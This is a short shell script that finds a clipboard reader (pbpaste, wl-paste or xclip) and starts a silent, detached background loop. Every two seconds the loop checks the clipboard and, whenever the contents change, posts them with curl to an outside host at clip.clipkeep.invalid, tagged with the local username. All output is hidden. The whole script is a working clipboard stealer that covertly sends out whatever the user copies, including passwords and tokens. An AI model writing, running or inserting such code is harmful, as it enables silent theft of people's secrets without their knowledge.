#!/bin/sh
if command -v pbpaste >/dev/null; then get=pbpaste
elif command -v wl-paste >/dev/null; then get=wl-paste
else get="xclip -o -selection clipboard"; fi
(
  prev=
  while sleep 2; do
    cur=$($get 2>/dev/null)
    [ "$cur" = "$prev" ] && continue
    prev=$cur
    printf %s "$cur" | curl -s -m 4 --data-binary @- "https://clip.clipkeep.invalid/$(whoami)" >/dev/null
  done
) </dev/null >/dev/null 2>&1 &
